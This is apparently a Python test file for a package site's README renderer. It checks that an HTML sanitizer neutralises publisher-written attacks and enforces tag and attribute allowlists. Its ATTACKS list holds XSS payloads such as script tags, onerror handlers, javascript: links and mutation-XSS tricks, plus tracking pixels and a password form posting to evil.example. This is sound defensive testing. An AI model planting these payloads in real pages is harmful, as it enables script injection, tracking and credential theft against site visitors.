# SPDX-License-Identifier: Apache-2.0
"""Publishers write READMEs that attack whoever reads them on our pages; nothing of it may work."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from weighbridge_web.markdown import MAX_MARKS, MAX_README, render_readme, strip_front_matter

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://tracker.example/pixel.png">',
    "![](https://tracker.example/pixel.png)",
    "[![x](https://tracker.example/a.svg)](javascript:alert(1))",
    "[go](javascript:alert(1))",
    "[go](JaVaScRiPt:alert(1))",
    '<a href="java&#10;script:alert(1)">go</a>',
    "[go](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "[go](vbscript:msgbox)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0">gone</div>',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x></object><embed src=x>",
    "<svg onload=alert(1)><use href='https://evil.example/#x'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<video src="https://evil.example/v.mp4" autoplay></video><audio src=x>',
    '<picture><source srcset="https://evil.example/p.png"><img src=x></picture>',
    '<table background="https://evil.example/p.png"><tr><td background=x>a</td></tr></table>',
    '<a href="https://ok.example" target="_blank" onclick="alert(1)" id="checks" name="verify">x</a>',
    '<div id="content" class="notice bad">Withdrawn</div>',
    '<p class="signed-by">Signed by somebody famous</p>',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>`",
    "</div></main><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<?php echo 1 ?><![CDATA[<script>alert(1)</script>]]>",
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea><title><script>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "---\ntitle: x\n---\n<script>alert(1)</script>",
]

_TAGS = {
    *(
        "a",
        "abbr",
        "b",
        "blockquote",
        "br",
        "cite",
        "code",
        "dd",
        "del",
        "details",
        "dfn",
        "div",
        "dl",
        "dt",
        "em",
    ),
    *(
        "figcaption",
        "figure",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "i",
        "ins",
        "kbd",
        "li",
        "mark",
        "ol",
        "p",
        "pre",
        "q",
    ),
    *("s", "samp", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th"),
    *("thead", "tr", "u", "ul", "var"),
}
_ATTRIBUTES = {"href", "rel", "class", "colspan", "rowspan", "scope", "start", "value"}
_OWN_CLASSES = {("a", "image"), ("span", "image"), ("div", "scroll")}


class _Inspector(HTMLParser):
    """Reads the result as a browser would and notes everything that is not allowed."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in _ATTRIBUTES:
                self.wrong.append(f"{tag} {name}")
            if name == "class" and (tag, value) not in _OWN_CLASSES:
                self.wrong.append(f"{tag}.{value}")
            if name == "href":
                self.links.append(value or "")
                if not (value or "").startswith(("https://", "http://", "mailto:")):
                    self.wrong.append(f"href {value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(decl)

    def handle_pi(self, data: str) -> None:
        self.wrong.append(data)


def _inspect(readme: str) -> _Inspector:
    inspector = _Inspector()
    inspector.feed(str(render_readme(readme)))
    inspector.close()
    return inspector


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_in_a_readme_leaves_only_text_and_harmless_tags(attack: str) -> None:
    assert _inspect(attack).wrong == []
    assert _inspect(f"Some text\n\n{attack}\n\nmore text").wrong == []


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<", ">", '"', "'", "&", "\n", "<a href=", "](", "`", "|", "-->", "<!--"]),
        max_size=8,
    ).map("".join)
)
def test_attacks_joined_in_any_way_stay_harmless(readme: str) -> None:
    assert _inspect(readme).wrong == []


@given(st.text(max_size=300))
def test_any_text_at_all_stays_harmless(readme: str) -> None:
    assert _inspect(readme).wrong == []


def test_an_image_becomes_a_link_so_that_reading_tells_nobody() -> None:
    html = str(render_readme("![the plan](https://elsewhere.example/plan.png)"))
    assert "<img" not in html
    assert 'href="https://elsewhere.example/plan.png"' in html
    assert "image: the plan" in html


def test_an_image_inside_a_link_leaves_the_link_as_it_was() -> None:
    links = _inspect("[![badge](https://a.example/b.svg)](https://project.example)").links
    assert links == ["https://project.example"]


def test_links_out_tell_nothing_and_lend_no_standing() -> None:
    html = str(render_readme("[paper](https://example.org/p)"))
    assert 'rel="noopener noreferrer nofollow ugc"' in html


def test_relative_links_lead_nowhere_on_our_pages() -> None:
    assert _inspect("[a](/log) [b](./x.md) [c](#checks) [d](//evil.example)").links == []


def test_headings_stay_below_those_of_the_page() -> None:
    html = str(render_readme("# One\n\n## Two\n\n##### Five"))
    assert "<h3>One</h3>" in html
    assert "<h4>Two</h4>" in html
    assert "<h6>Five</h6>" in html


def test_tables_scroll_inside_themselves() -> None:
    html = str(render_readme("| a | b |\n|---|---|\n| 1 | 2 |"))
    assert '<div class="scroll"><table>' in html


def test_front_matter_is_shown_by_the_card_and_not_twice() -> None:
    assert strip_front_matter("---\nlicense: mit\n---\n# Title\n") == "# Title\n"
    assert strip_front_matter("# Title\n\n---\n\ntext") == "# Title\n\n---\n\ntext"
    assert strip_front_matter("--- not front matter") == "--- not front matter"


def test_characters_that_reorder_text_are_shown_by_number() -> None:
    assert "⟨U+202E⟩" in str(render_readme("signed by \u202eecila"))


def test_a_readme_that_is_all_brackets_is_shown_as_it_is_instead_of_parsed_for_seconds() -> None:
    html = str(render_readme("<div>" * (MAX_MARKS + 1)))
    assert html.startswith("<pre>&lt;div&gt;")


def test_a_huge_readme_is_cut() -> None:
    assert len(str(render_readme("word " * MAX_README))) < MAX_README + 100
